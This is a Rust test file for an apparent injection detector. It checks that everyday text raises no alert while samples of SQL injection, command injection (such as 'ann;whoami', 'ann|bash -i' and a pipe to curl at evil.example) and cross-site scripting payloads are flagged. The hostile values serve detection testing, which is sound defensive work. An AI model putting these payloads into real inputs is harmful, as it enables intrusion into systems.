//! What is no attack, however much it looks like one.

use super::super::Class;
use super::{assert_found, rule_of};

#[test]
fn everyday_values_raise_nothing() {
    let values = [
        "O'Brien",
        "select all from the menu",
        "drop me a line; or call",
        "rock 'n' roll",
        "5' 10\" and 180 lbs",
        "it's 50% off -- today only!",
        "R&B / soul & more",
        "AT&T; Johnson & Johnson",
        "1 or 2 days",
        "a = b and c = d",
        "size=10 or size=12",
        "the union selected a new leader",
        "Credit union, select branches only",
        "Table 1; drop shipping available",
        "insert coin to continue; update later",
        "It's time to sleep (8 hours)",
        "sleep(8h) is good",
        "we should delete from our list the old items",
        "use strict; use warnings",
        "--help",
        "C# and F# developers",
        "I <3 you",
        "if (a < b) { return c; }",
        "<b>bold</b> and <i>italic</i>",
        "<p>Hello, <strong>world</strong>!</p>",
        "<a href=\"https://example.com/page?a=1&b=2\">link</a>",
        "Ann <ann@example.com>, Bob <bob@example.com>",
        "The onload event fires; onerror too",
        "javascript: the good parts",
        "alert (3) people",
        "use `ls` to list files",
        "Run `git status` and `git commit -m \"x\"`",
        "Use the `id` field; the `name` field is optional",
        "cat and dog; mouse & bird",
        "; )",
        "time; money; power",
        "| id | name |",
        "$(document).ready(function(){})",
        "Hello {{name}}, your order {{order.id}} is ready",
        "{{ page.title | upcase }}",
        "Write `{{ user.name }}` in the *template*, and {{ user.class }} where a class is meant.",
        "{% if user %}Hi{% endif %}",
        "query GetUser($id: ID!) { user(id: $id) { name, posts(first: 10) { edges { node { title } } } } }",
        "{\"a\":1,\"b\":[true,false,null],\"c\":{\"d\":\"e's\"}}",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
        "Mozilla/5.0 (compatible; MSIE 10.0; Windows Phone 8.0; IEMobile/10.0; ARM; Touch; NOKIA; Lumia 920)",
        "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8",
        "en-US,en;q=0.9,de;q=0.8",
        "_ga=GA1.2.1234567890.1234567890; _gid=GA1.2.987654321.987654321; __utma=1.2.3.4.5.6",
        "session=abc123; theme=dark; id=42",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
        "550e8400-e29b-41d4-a716-446655440000",
        "https://example.com/a/b?x=1&y=2;z=3#frag",
        "../images/logo.png",
        "C:\\Users\\Ann\\Documents\\file.txt",
        "see /etc/hosts for details",
        "+49 (0) 30 1234567",
        "Feat(db): add index; drop old column (#123)",
        "Merge branch 'main' of github.com:foo/bar into 'dev'",
        "\"quoted\" or 'quoted'",
        "'a', 'b' or 'c'",
        "it's either 'yes' or 'no'",
        "c'est l'heure; d'accord",
        "Müller & Söhne",
        "“smart quotes” and ‘more’",
        "5 &gt; 3 &amp;&amp; 2 &lt; 4",
        "&copy; 2024 Company",
        "regex: ^[a-z]+(\\d{2,3})?$",
        "foo|bar|baz",
        "SGVsbG8gd29ybGQ=",
        "data:image/png;base64,iVBORw0KGgo=",
        "@media (max-width: 600px)",
        "[link](https://example.com) ![img](a.png \"title\")",
        "use '=' instead of '=='",
        "the '+' operator and the '-' operator",
        "key=\"value\" and other=\"thing\"",
        "the boss's # is 5",
        "who | what | where",
        "Tips & more",
        "<unset>, as happens",
        "Allow arrays to be used with \"where\" filter.",
        "join the two marks with \"and\"",
        "p == 3 (mod 4)  or  p == 5 (mod 8), which can",
        "fix(tracing): add `sampling` and `rate` in conf.toml, deprecate `old_*` (#10122)",
    ];
    for value in values {
        assert_eq!(rule_of(value), None, "{value}");
    }
}

#[test]
fn parameters_that_are_named_as_functions_or_words_of_sql_raise_nothing() {
    for value in [
        "https://shop.example/orders?page=1&user_id=5",
        "/orders?page=1&version=2",
        "a=1&host_name=x&row_count=5&session_user=ann&current_user=7",
        "isGpcEnabled=0&datestamp=Mon&version=202401.1.0&browserGpcFlag=0&isIABGlobal=false",
        "?a=1&case=5",
        "?a=1&select=5",
        "phone & case",
        "Law & case studies",
        "dvd|case",
        "=IF(A1>5,\"yes\",\"no\")",
        "src/login.c: Ignore the return value of alarm() and sleep().",
        "the @@ of a diff & @@ again",
    ] {
        assert_eq!(rule_of(value), None, "{value}");
    }
    assert_found(
        Class::Sqli,
        &[
            "7' or current_user='sa'--",
            "7 and version()>5",
            "7' and version() like '5%'--",
            "7 or case when 2=2 then 1 else 0 end",
            "7 or (case 7 when 7 then 1 end)=1",
            "7 or 3=(select 3)",
            "7 and @@version>5",
        ],
    );
}

#[test]
fn lists_of_words_that_are_also_commands_raise_nothing() {
    for value in [
        "java; php; python",
        "java\r\npython\r\nruby",
        "id\nname\ndate\n",
        "art; history; music",
        "id;name;date",
        "no|yes",
        "first|last",
        "true;false",
        "asc|id",
        "date;time",
        "admin|users",
        "python & ruby",
        "fish & bash party",
        "dog's; host; first",
        "B\u{fc}cher; date; Musik",
        "https://x.example/a?b=c&sort",
    ] {
        assert_eq!(rule_of(value), None, "{value}");
    }
    assert_found(
        Class::Command,
        &[
            "7;id",
            "a;id",
            "x|python",
            "ann;id;",
            "ann;id #",
            "ann | curl http://evil.example",
            "../a;id",
            "ann&&id",
            "ann;whoami",
            "ann|bash -i",
            "ann';id",
            "ann;i'd'",
        ],
    );
}

#[test]
fn names_of_elements_that_need_an_attribute_are_words_without_one() {
    for value in ["git notes show [<object>]", "the <base> of it", "<set>", "<param >", "<xml/>", "use <embed"] {
        assert_eq!(rule_of(value), None, "{value}");
    }
    assert_found(
        Class::Xss,
        &["<object data=x>", "<base href=//evil.example>", "<set/attributeName=href to=x>", "<iframe>"],
    );
}

#[test]
fn links_that_do_nothing_raise_nothing() {
    for value in [
        "javascript:void(0)",
        "javascript:;",
        "JavaScript:void(0);",
        "<a href=\"javascript:void 0\">more</a>",
        "<a href=javascript:void(0)>more</a>",
        "[more](javascript:void(0))",
    ] {
        assert_eq!(rule_of(value), None, "{value}");
    }
    assert_found(
        Class::Xss,
        &[
            "javascript:void(0);alert(7)",
            "javascript:;alert(7)",
            "javascript:void(alert(7))",
            "javascript:void(0)?alert(7):7",
            "javascript:void(0)>alert(7)",
            "javascript:void(0) ,alert(7)",
            "<a href=\"javascript:void(0)>alert(7)\">",
            "<a href='javascript:void(0) -alert(7)'>",
        ],
    );
}

#[test]
fn images_of_styles_and_settings_of_programs_raise_nothing() {
    for value in [
        "a::before{content:url('data:image/svg+xml,<path d=\"M4 19h6v2H4z\"/>')}",
        "<Set name=\"maxThreads\" type=\"int\"><Property name=\"pool.max\"/></Set>",
        "{\"ImportToken\": \"<import token base64 encoded>\"}",
        "<Point(full_name={self.name}, only_some={self.some})>",
        "let flag = 'r+';\nconst onopen = (error, file) => {",
        "if name == \"main\":\n    print(\"a\")",
        "out.write(b\"<\")?;\nself.name(&name)?;",
    ] {
        assert_eq!(rule_of(value), None, "{value}");
    }
    assert_found(
        Class::Xss,
        &[
            "<svg><set attributeName=href to=javascript:f(7)>",
            "<x onanything=alert(7)>",
            "';print(7)//",
            "<a href='data:image/svg+xml,<x onload=f(7)>'>",
        ],
    );
}

#[test]
fn operators_and_words_of_queries_in_quotes_raise_nothing() {
    for value in [
        "term (('+'|'-') term)*",
        "the signs '+', '-' and '*', or '=' for none",
        "a choice is followed by '<', '#' or '%s'",
        "'=' expected",
        "**Default:** `'&'`.",
        "Some(b'+' | b'-') if text[1] == b'*'",
        "$dir.'/'.$name",
        "\u{201d}||\u{201d} is no instruction",
        "\"select\" \"from\" \"where\"",
    ] {
        assert_eq!(rule_of(value), None, "{value}");
    }
    assert_found(Class::Sqli, &["'='", "x'='y", "x'||'y", "'='-- ", "b' or 'b'='b", "'=' or 7=7-- ", "7'-'7"]);
}

#[test]
fn sums_possessives_and_formulae_raise_nothing() {
    for value in [
        "2 and 2 is 4",
        "7 and 8 is 15 of us",
        "the favourite of the boys' is C#",
        "the boys' toys --",
        "a 5' board --",
        "=IF(LEN(A1)>5,\"yes\",\"no\")",
        "=IF(LEFT(B2,3)=\"abc\",1,2)",
    ] {
        assert_eq!(rule_of(value), None, "{value}");
    }
    assert_found(
        Class::Sqli,
        &["2 and 2 is 2", "x' or id#", "x' is null --", "boys' or id --", "7-if(length(name)>5,1,2)"],
    );
}
